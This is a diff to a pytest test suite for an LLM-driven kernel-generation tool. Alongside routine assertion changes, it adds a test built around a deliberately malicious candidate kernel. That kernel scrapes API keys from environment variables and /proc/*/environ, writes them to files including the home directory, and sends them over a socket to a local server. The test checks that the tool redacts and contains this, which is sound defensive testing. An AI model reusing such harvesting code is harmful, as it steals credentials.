@@ -9,7 +9,7 @@ from pathlib import Path
 import pytest
 
 from tests.conftest import akg_op_command
-from tests.fake_openai_server import RELU_BUGGY_KERNEL, RELU_CORRECT_KERNEL, FakeOpenAIServer, code_reply
+from tests.fake_openai_server import RELU_BUGGY_KERNEL, RELU_CORRECT_KERNEL, FakeOpenAIServer, Scripted, code_reply
 
 REQUEST = "Generate a relu kernel, input (64, 512), fp32"
 
@@ -35,7 +35,7 @@ def test_run_with_a_model_fixes_its_buggy_kernel(tmp_path, cli_env, akg_home):
     assert "0.1 * x" in prompts[1] and "MISMATCH" in prompts[1], prompts[1][-1500:]
 
     kernel = (tmp_path / "o" / "relu_generated.py").read_text()
-    assert "tl.maximum(x, 0.0)" in kernel
+    assert "tl.where(x < 0, 0.0, x)" in kernel
 
     # Token counts reached the results store and the report; the key reached neither.
     session_dir = next((tmp_path / "w").glob("op_relu_*"))
@@ -76,7 +76,7 @@ def test_model_down_mid_run_reports_and_resumes(tmp_path, cli_env):
         env["OPENAI_BASE_URL"] = server.base_url
         resumed = akg(["resume", sid], env, tmp_path)
     assert resumed.returncode == 0, resumed.stdout + resumed.stderr
-    assert "tl.maximum(x, 0.0)" in (tmp_path / "o" / "relu_generated.py").read_text()
+    assert "tl.where(x < 0, 0.0, x)" in (tmp_path / "o" / "relu_generated.py").read_text()
 
 
 QUICK_GELU_TASK = '''
@@ -135,3 +135,61 @@ def test_the_model_writes_the_task_for_a_request_outside_the_catalogue(tmp_path,
     assert "1.702" in (session_dir / "quick_gelu.py").read_text()  # the model's task, validated and used
     assert "quick_gelu_kernel" in (tmp_path / "o" / "quick_gelu_generated.py").read_text()
     assert "quick_gelu" in server.user_prompts()[0]
+
+
+LEAKY_KERNEL_TEMPLATE = '''
+import glob, os, socket, sys
+import torch
+import torch.nn as nn
+
+KEY = "{key}"  # as if the key had been stolen some other way: every channel out must drop it
+found = [v for k, v in os.environ.items() if "KEY" in k]
+for path in glob.glob("/proc/*/environ"):
+    try:
+        found += [p.decode() for p in open(path, "rb").read().split(b"\\\\0") if b"OPENAI" in p]
+    except OSError:
+        pass
+print("stolen:", KEY, found)
+print("stolen:", KEY, file=sys.stderr)
+for path in ("stolen.txt", "{session_hint}/stolen.txt", os.path.expanduser("~/stolen.txt")):
+    try:
+        open(path, "w").write(KEY)
+    except OSError:
+        pass
+try:
+    socket.create_connection(("127.0.0.1", {port}), timeout=1).sendall(("POST /v1/chat/completions " + KEY).encode())
+except OSError:
+    pass
+
+
+class ModelNew(nn.Module):
+    def forward(self, x):
+        raise RuntimeError("here is the key: " + KEY)
+'''
+
+
+@pytest.mark.timeout(300)
+def test_a_candidate_that_leaks_the_key_leaves_no_trace_anywhere(tmp_path, cli_env, akg_home):
+    """With a key in the orchestrator's environment, a candidate that prints, raises, writes and
+    sends it: no verdict, store, checkpoint, report, session file or prompt to the model holds it."""
+    key = "sk-e2e-leak-" + "5" * 24
+    workdir = tmp_path / "w"
+    with FakeOpenAIServer([], answer_probes=True, lifetime_s=280) as server:
+        port = int(server.base_url.rsplit(":", 1)[1].split("/")[0])
+        leaky = LEAKY_KERNEL_TEMPLATE.format(key=key, session_hint=str(workdir), port=port)
+        server.script = [Scripted(content=code_reply(leaky)), Scripted(content=code_reply(RELU_CORRECT_KERNEL))]
+        env = {**cli_env, "OPENAI_BASE_URL": server.base_url, "OPENAI_API_KEY": key}
+        result = akg(["run", REQUEST, "--llm", "openai", "--model", "fake-kernel-model", "--yes",
+                      "--workdir", str(workdir), "--out", str(tmp_path / "o")], env, tmp_path)
+    output = result.stdout + result.stderr
+    assert result.returncode == 0, output
+    assert key not in output
+    prompts = server.user_prompts()
+    assert len(prompts) == 2, prompts  # the candidate's own connection never arrived
+    assert "here is the key" in prompts[1] and key not in prompts[1] and "[redacted]" in prompts[1]
+    files = [*workdir.rglob("*"), *(tmp_path / "o").rglob("*"), *akg_home.rglob("*")]
+    assert any(p.name == "report.md" for p in files) and any(p.name == "results.db" for p in files)
+    for path in files:
+        if path.is_file():
+            assert key.encode() not in path.read_bytes(), path
+    assert not any(p.name == "stolen.txt" for p in files)
